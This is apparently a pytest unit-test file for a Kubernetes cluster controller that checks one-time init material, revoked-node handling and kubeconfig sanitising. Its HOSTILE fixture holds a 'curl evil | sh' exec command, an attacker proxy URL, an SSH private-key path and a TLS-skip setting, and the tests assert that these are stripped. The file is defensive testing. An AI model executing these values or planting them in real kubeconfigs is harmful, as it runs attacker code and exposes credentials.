"""Issue 10, items 2 and 7: init material only once while kubeadm-init runs; a safe kubeconfig;
nothing handed to (or taken from) a revoked node."""

from __future__ import annotations

import base64

import pytest
import yaml

from tests.unit.controller.test_cluster import OUTPUTS, TOKEN, Cluster
from tether.controller.cluster import material as m
from tether.controller.cluster.context import INIT_STEP, JOIN_STEP
from tether.controller.cluster.kubeconfig import KubeconfigRefused, sanitise
from tether.nodeagent.model import Plan, Step

HOSTILE = {
    "apiVersion": "v1",
    "kind": "Config",
    "clusters": [
        {
            "name": "k",
            "cluster": {
                "server": "https://10.0.0.2:6443",
                "certificate-authority-data": "Q0E=",
                "insecure-skip-tls-verify": True,
                "proxy-url": "http://evil:3128",
            },
        }
    ],
    "users": [
        {
            "name": "admin",
            "user": {
                "client-certificate-data": "Q0VSVA==",
                "client-key-data": "S0VZ",
                "exec": {"command": "/bin/sh", "args": ["-c", "curl evil | sh"]},
                "auth-provider": {"name": "oidc"},
                "tokenFile": "/home/operator/.ssh/id_rsa",
                "username": "u",
                "password": "p",
            },
        }
    ],
    "contexts": [{"name": "c", "context": {"cluster": "k", "user": "admin"}}],
    "current-context": "c",
}


def b64(doc: object) -> str:
    return base64.b64encode(yaml.safe_dump(doc).encode()).decode()


async def test_init_material_is_refused_unless_kubeadm_init_is_running(cluster: Cluster) -> None:
    cp1 = await cluster.node("cp-1", "control-plane")
    assert await cluster.orch.secrets_received(cp1, INIT_STEP, OUTPUTS, "")  # acknowledged ...
    assert cluster.orch.material("c1") is None  # ... but not taken: the step never started
    await cluster.succeed("cp-1", INIT_STEP, 1)
    await cluster.orch.secrets_received(cp1, INIT_STEP, OUTPUTS, "")
    assert cluster.orch.material("c1") is None  # nor after it finished


async def test_init_material_is_accepted_once(cluster: Cluster) -> None:
    cp1 = await cluster.node("cp-1", "control-plane")
    assert await cluster.init(cp1)
    assert cluster.orch.material("c1").token == TOKEN  # type: ignore[union-attr]
    planted = {**OUTPUTS, m.TOKEN: "zzzzzz.0123456789zzzzzz", m.ENDPOINT: "6.6.6.6:6443"}
    await cluster.orch.secrets_received(cp1, INIT_STEP, planted, "")  # still running: a second go
    material = cluster.orch.material("c1")
    assert material is not None and material.token == TOKEN and material.endpoint == "10.0.0.2:6443"


async def test_a_planted_kubeconfig_is_stored_without_its_unsafe_settings(cluster: Cluster) -> None:
    cp1 = await cluster.node("cp-1", "control-plane")
    assert await cluster.init(cp1, {**OUTPUTS, m.KUBECONFIG: b64(HOSTILE)})
    doc = yaml.safe_load(cluster.orch.kubeconfig("c1"))
    user, kube = doc["users"][0]["user"], doc["clusters"][0]["cluster"]
    assert user == {"client-certificate-data": "Q0VSVA==", "client-key-data": "S0VZ"}
    assert kube == {"server": "https://10.0.0.2:6443", "certificate-authority-data": "Q0E="}


def test_what_is_not_a_kubeconfig_is_refused() -> None:
    for bad in ("not base64!", base64.b64encode(b"- a list").decode(), b64({"kind": "Pod"})):
        with pytest.raises(KubeconfigRefused):
            sanitise(bad)
    _, removed = sanitise(b64(HOSTILE))
    assert "user.exec" in removed and "cluster.insecure-skip-tls-verify" in removed


async def test_a_revoked_node_waiting_at_its_gate_gets_no_release(cluster: Cluster) -> None:
    cp1 = await cluster.node("cp-1", "control-plane")
    w1 = await cluster.node("w-1", "worker")
    w2 = await cluster.node("w-2", "worker")
    await cluster.orch.gate_requested(w1, JOIN_STEP, cluster.digest("w-1"))
    await cluster.orch.gate_requested(w2, JOIN_STEP, cluster.digest("w-2"))
    await cluster.store.update_node("w-1", revoked=True)  # revoked while it waits (no node_revoked call)
    await cluster.init(cp1)
    assert cluster.releases("w-1") == []
    assert len(cluster.releases("w-2")) == 1
    await cluster.orch.gate_requested(w1, JOIN_STEP, cluster.digest("w-1"))  # asking again: still nothing
    assert cluster.releases("w-1") == []


async def test_a_revoked_control_plane_neither_refreshes_nor_sends_material(cluster: Cluster) -> None:
    cp1 = await cluster.node("cp-1", "control-plane")
    await cluster.init(cp1)
    await cluster.succeed("cp-1", INIT_STEP, 1)
    cluster.sent("cp-1")
    await cluster.orch.forget_material("c1")
    await cluster.store.update_node("cp-1", revoked=True)
    w1 = await cluster.node("w-1", "worker")
    await cluster.orch.gate_requested(w1, JOIN_STEP, cluster.digest("w-1"))
    assert [msg for msg in cluster.sent("cp-1") if msg.WhichOneof("kind") == "command"] == []
    fresh = {m.TOKEN: "zzzzzz.0123456789zzzzzz", m.CA_HASH: OUTPUTS[m.CA_HASH]}
    await cluster.orch.secrets_received(cp1, "refresh-join-material", fresh, "refresh-anything")
    assert cluster.releases("w-1") == []


async def test_an_init_node_revoked_before_init_finished_takes_its_material_with_it(cluster: Cluster) -> None:
    cp1 = await cluster.node("cp-1", "control-plane")
    cp2 = await cluster.node("cp-2", "control-plane")
    assert cluster.orch.init_node("c1") == "cp-1"
    assert await cluster.init(cp1)  # sent while kubeadm-init ran; then the machine is revoked
    await cluster.store.update_node("cp-1", revoked=True)
    await cluster.orch.node_revoked(cp1)
    assert cluster.orch.material("c1") is None  # nobody joins the revoked machine's cluster
    await cluster.orch.context(cp2)
    assert cluster.orch.init_node("c1") == "cp-2"
    await cluster.store.set_node_plan("cp-2", Plan.build([Step(name=INIT_STEP, script="x")]))  # re-rendered
    fresh = {**OUTPUTS, m.TOKEN: "yyyyyy.0123456789yyyyyy"}
    assert await cluster.init(cp2, fresh)
    material = cluster.orch.material("c1")
    assert material is not None and material.token == "yyyyyy.0123456789yyyyyy"


async def test_a_kubeconfig_stored_before_the_cleaning_is_cleaned_on_the_way_out(cluster: Cluster) -> None:
    await cluster.node("cp-1", "control-plane")
    key = "cluster/c1/kubeconfig"
    assert cluster.store.kv_keys("cluster/c1/")  # the orchestrator's key layout
    await cluster.store.kv_put(key, cluster.orch._box.seal(b64(HOSTILE).encode(), key))
    doc = yaml.safe_load(cluster.orch.kubeconfig("c1", "10.0.0.2:6443"))
    assert "exec" not in doc["users"][0]["user"]
    assert "insecure-skip-tls-verify" not in doc["clusters"][0]["cluster"]


def test_a_kubeconfig_nested_too_deep_is_refused_not_a_crash() -> None:
    deep = base64.b64encode(("[" * 100_000 + "]" * 100_000).encode()).decode()
    with pytest.raises(KubeconfigRefused):
        sanitise(deep)
